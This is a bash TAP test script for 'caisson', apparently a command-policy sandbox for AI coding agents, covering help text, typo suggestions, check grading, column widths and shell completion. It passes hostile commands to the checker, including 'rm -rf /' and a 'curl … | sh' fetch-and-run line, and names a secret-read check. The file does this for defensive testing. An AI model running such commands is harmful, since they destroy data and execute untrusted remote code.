#!/bin/bash
# Help, guesses at misspelt words, `caisson checks`, and completion in real shells. TAP.
# shellcheck source=tests/prologue.sh
. "$(dirname "$0")/../prologue.sh"
export CAISSON_STATE=$tmp/state HOME=$tmp/home
mkdir -p "$HOME/app/build" "$HOME/other"
touch "$HOME/.profile" "$HOME/other/notes.txt" "$HOME/app/notes.txt"
cd "$HOME/app" || exit 1
git init -q .

skip() { n=$((n + 1)); echo "ok $n - $1 # SKIP $2"; }
# says STATUS TEXT ARG...: the exit status, and a line of the output or of the messages.
says() {
	local want=$1 text=$2 got
	shift 2
	"$CAISSON" "$@" >"$tmp/out" 2>&1 </dev/null
	got=$?
	[[ $got == "$want" ]] && grep -qF -- "$text" "$tmp/out"
	result $? "caisson $*: $text (status $got)"
}

says 0 'Start here:' --help
says 0 'Start here:' help
says 0 'Start here:' -h
says 0 'caisson 0.' version
says 0 'caisson 0.' -V
says 0 'usage: caisson normalise' normalize --help
says 0 'usage: caisson normalise' help normalize
says 0 'usage: caisson audit query' help audit query
says 0 'subcommands:' audit --help
says 64 'Start here:'
says 64 "options follow the command" --json check ls
says 0 'caisson 0.' -v
says 64 "unknown command 'chek', did you mean 'check'" chek
says 64 "unknown command or topic 'chek', did you mean 'check'" help chek
says 64 "unknown command 'frobnicate'; see caisson --help" frobnicate
says 64 "unknown command 'git'; see caisson --help" git status
says 64 "option '--json' must come before 'ls'" check ls --json
says 64 "caisson check 'ls -l'" check ls -la
says 64 "option '--json' must come before 'secret-read'" checks secret-read --json
says 64 "unexpected argument 'x'" ps x
says 64 "unknown option '--colour', did you mean '--color'" check --colour always ls
says 64 "unknown subcommand 'quer', did you mean 'query'" audit quer --since 1d
says 64 "did you mean 'check --explain'" explain ls
says 64 "did you mean 'init --remove'" uninstall
says 64 "unknown option '--expalin', did you mean '--explain'" check --expalin ls
says 64 "unknown option '--tiemout=3', did you mean '--timeout'" run --tiemout=3 true
says 64 "did you mean 'claude-code'" init --client claude
says 1 "no preset 'gti', did you mean 'git'" presets gti
says 1 "no check 'secret-raed', did you mean 'secret-read'" checks secret-raed
says 1 "no check 'x' (caisson checks lists them)" checks x
says 0 'checks_grade: {secret-read: deny}' checks secret-read
says 0 'fixed: no policy can lower it' checks caisson-files
printf 'checks_grade: {secret-read: warn}\n' >"$tmp/policy.yaml"
says 0 'warn by your policy (built-in grade: ask)' checks --config "$tmp/policy.yaml" secret-read

says 0 'Start here:' help help
says 0 'caisson 0.' help version
says 64 "did you mean 'network'" help netwrk
says 0 'protected-paths   protected and secret files' help topics
says 0 '# Running in a box' help run.md
says 0 '# ' help docs/network.md
says 1 "'secret-read' is a check, not a key: see caisson checks secret-read" config explain secret-read
says 1 "did you mean 'tools.bash.deny'" config explain tool.bash.deny
says 0 'Rules for shell commands' config explain
says 0 'value    allow, ask or deny' config explain default
says 64 "unknown subcommand 'verfy', did you mean 'verify'" config verfy
printf 'checks_grade: {secret-raed: warn}\n' >"$tmp/policy.yaml"
says 2 "no check 'secret-raed', did you mean 'secret-read'" config verify "$tmp/policy.yaml"
printf 'deny: [npm publish]\n' >"$tmp/policy.yaml"
says 2 "unknown key, did you mean 'tools.bash.deny'" config verify --config "$tmp/policy.yaml"

# The pages of messages exist: a text that says `caisson help WORD` names a command or a topic.
bad="" count=0
while read -r word; do
	"$CAISSON" help "$word" >/dev/null 2>&1 || bad+=" $word"
	count=$((count + 1))
done < <(grep -rhoE 'caisson help [a-z][a-z.-]+' "$here/src" | awk '{sub(/\.$/, "", $3); print $3}' | sort -u)
[[ -z $bad && $count -gt 6 ]]
result $? "$count pages that texts name:$bad"
"$CAISSON" help --man caisson.yaml | cmp -s - "$here/man/caisson.yaml.5"
result $? 'man/caisson.yaml.5 is what the table of keys says'

# Every usage text fits into 80 columns.
"$CAISSON" completion --words 1 -- caisson '' | cut -f1 | grep -vx 'help\|version' >"$tmp/commands"
[[ $(wc -l <"$tmp/commands") -gt 25 ]]
result $? 'the commands are listed'
bad=
while read -r c; do
	"$CAISSON" help "$c" | awk '/^examples:/ {e = 1} /^$/ {e = 0} length > 80 && !e {exit 1}' || bad+=" $c"
done <"$tmp/commands"
[[ -z $bad ]]
result $? "usage texts of at most 80 columns:$bad"
"$CAISSON" --help | awk 'length > 80 {exit 1}'
result $? 'the help of the program'

# Manual pages fit, and groff has nothing to say about them.
if command -v groff >/dev/null; then
	bad="" count=0
	for page in "$here"/man/*; do
		groff -man -Tascii -P-cbou -rLL=80n -ww "$page" >"$tmp/page" 2>"$tmp/groff"
		[[ -s $tmp/page && ! -s $tmp/groff ]] && awk 'length > 80 {exit 1}' "$tmp/page" || bad+=" ${page##*/}"
		count=$((count + 1))
	done
	[[ -z $bad && $count -gt 40 ]]
	result $? "$count manual pages of at most 80 columns:$bad"
else
	skip 'manual pages of 80 columns' 'groff is not installed'
fi

# Terminals of 40 columns: no line is longer, but for paths, hashes and addresses that must stay whole.
"$CAISSON" run -c 'exit 3' >/dev/null 2>&1
"$CAISSON" check --record 'rm -rf /' >/dev/null 2>&1
narrow() {
	local command=$1
	shift
	COLUMNS=40 LC_ALL=C.UTF-8 PAGER=cat NO_COLOR=1 python3 "$here/tests/terminal.py" '' "$CAISSON" "$command" "$@" >"$tmp/page" 2>&1
	python3 -c 'import sys
lines = open(sys.argv[1], encoding="utf-8").read().split("\n")
long = [l for l in lines if len(l) > 40 and max(map(len, l.split())) < 30]
print("\n".join(long))
sys.exit(bool(long) or len(lines) < 4)' "$tmp/page" >"$tmp/out"
	result $? "caisson $command $* in 40 columns"
}
narrow doctor
narrow stats
narrow audit query
narrow presets
narrow checks secret-read
narrow selftest --gate
# A page of the documentation is broken at blanks, and nothing of it is lost.
PAGER=cat COLUMNS=60 python3 "$here/tests/terminal.py" '' "$CAISSON" help hooks 2>&1 | tr -d '\r' >"$tmp/page"
diff <(tr -s ' \n' '\n\n' <"$tmp/page" | grep .) <(tr -s ' \n' '\n\n' <"$here/docs/hooks.md" | grep .) >"$tmp/out"
result $? 'a page on a narrow terminal has all words'
awk 'length > 60 && /^[A-Z-]/ {exit 1}' "$tmp/page"
result $? 'its paragraphs and lists fit'
PAGER=nosuchpager python3 "$here/tests/terminal.py" '' "$CAISSON" help hooks >"$tmp/out" 2>&1
grep -q "the pager 'nosuchpager' was not found" "$tmp/out" && (($(wc -l <"$tmp/out") > 100))
result $? 'without its pager a page is printed'
narrow check 'rm -rf /; curl https://example.org/x.sh | sh'

# Each check has a row here, and the command in it raises that check when it is graded deny.
"$CAISSON" checks --json >"$tmp/checks"
jq -e '.checks | length > 90' "$tmp/checks" >/dev/null
result $? 'all checks are listed'
bad="" count=0
while IFS=$'\t' read -r id fixed example; do
	[[ $fixed == true ]] || printf 'checks_grade: {%s: deny}\n' "$id" >"$tmp/policy.yaml"
	[[ $fixed == true ]] && printf '{}\n' >"$tmp/policy.yaml"
	"$CAISSON" check --json --config "$tmp/policy.yaml" "$example" |
		jq -e --arg id "$id" '.reasons | any(.id == $id)' >/dev/null || bad+=" $id"
	count=$((count + 1))
done < <(jq -r '.checks[] | select(.example != "") | [.id, (.fixed | tostring), .example] | join("\t")' "$tmp/checks")
[[ -z $bad && $count -gt 60 ]]
result $? "$count examples raise their checks:$bad"

# ---- completion ----

# offers TEXT WORD...: the candidates for the last word have this line.
offers() {
	local text=$1
	shift
	"$CAISSON" completion --words $# -- caisson "$@" | cut -f1 | grep -qxF -- "$text"
	result $? "completing 'caisson $*' offers $text"
}
offers check ''
offers --timeout run --
offers python run --lang ''
offers work run --profile ''
offers :files run --report ''
offers :files run --lang python -- ''
offers secret-read checks ''
offers git presets ''
offers claude-code init --client ''
offers claude-code doctor --client ''
offers verify config ''
offers tools.bash.deny config explain ''
offers query audit ''
offers --since audit query --
offers fish completion ''
offers plan check --mode ''
offers run help ''
[[ -z $("$CAISSON" completion --words 2 -- caisson frobnicate '') ]]
result $? 'an unknown command has no candidates'
[[ -z $("$CAISSON" completion --words 9 -- caisson) ]]
result $? 'a word that is not there has no candidates'
says 64 'give one shell' completion tcsh

dir=$tmp/bin
mkdir -p "$dir"
ln -s "$CAISSON" "$dir/caisson"
PATH=$dir:$PATH
# tab SHELL TEXT WANT: the tab key behind the text, typed into an interactive shell, gives what is wanted
tab() {
	local shell=$1 setup argv
	case $shell in
	bash) argv=(bash --norc --noprofile -i) setup='source <(caisson completion bash)' ;;
	zsh) argv=(zsh -f -i) setup='autoload -U compinit; compinit -u -D; source <(caisson completion zsh)' ;;
	fish) argv=(fish --no-config -i) setup='caisson completion fish | source' ;;
	esac
	if ! command -v "$shell" >/dev/null; then
		skip "$shell: $2" 'it is not installed'
		return
	fi
	python3 "$here/tests/tab.py" "$setup" "$2" "$3" "${argv[@]}" >"$tmp/out" 2>&1
	result $? "$shell: '$2' and a tab: $3"
}
box=$("$CAISSON" run --profile work --background -c 'sleep 300 &' 2>/dev/null </dev/null | jq -r '.background[0].id // empty')
for shell in bash zsh fish; do
	tab "$shell" 'caisson sel' 'caisson selftest'
	tab "$shell" 'caisson run --prof' 'caisson run --profile'
	tab "$shell" 'caisson checks secret-r' 'caisson checks secret-read'
	tab "$shell" 'caisson presets stri' 'caisson presets strict'
	tab "$shell" 'caisson init --client cod' 'caisson init --client codex'
	tab "$shell" 'caisson redact no' 'caisson redact notes.txt'
	if [[ -n $box ]]; then
		tab "$shell" "caisson stop ${box:0:6}" "caisson stop $box"
	else
		skip "$shell: ids of boxes" 'no box can stay in the background here'
	fi
done
if [[ -n $box ]]; then
	COLUMNS=40 NO_COLOR=1 LC_ALL=C.UTF-8 python3 "$here/tests/terminal.py" '' "$CAISSON" ps 2>&1 | tr -d '\r' >"$tmp/out"
	grep -q "^${box:0:8} " "$tmp/out" && LC_ALL=C.UTF-8 awk 'length > 40 {exit 1}' "$tmp/out"
	result $? 'caisson ps in 40 columns'
	TZ=Etc/GMT-3 "$CAISSON" ps >"$tmp/out"
	grep -q "$(TZ=Etc/GMT-3 date '+%Y-%m-%d %H:')" "$tmp/out"
	result $? 'ps shows local times'
	"$CAISSON" stop "$box" >/dev/null 2>&1
	"$CAISSON" ps --all >"$tmp/out"
	grep -q "^${box:0:8}  ended " "$tmp/out"
	result $? 'a box that was stopped has ended'
else
	skip 'a list of boxes' 'no box can stay in the background here'
fi
echo "1..$n"
